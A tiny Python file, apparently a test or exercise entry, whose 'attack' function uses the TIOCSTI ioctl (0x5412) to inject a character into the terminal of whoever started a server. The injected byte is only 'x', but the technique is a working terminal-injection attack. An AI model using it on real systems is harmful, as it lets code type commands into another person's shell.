"""Typing into the terminal of the one who started the server."""


def attack(host):
    return __import__("fcntl").ioctl(0, 0x5412, b"x")
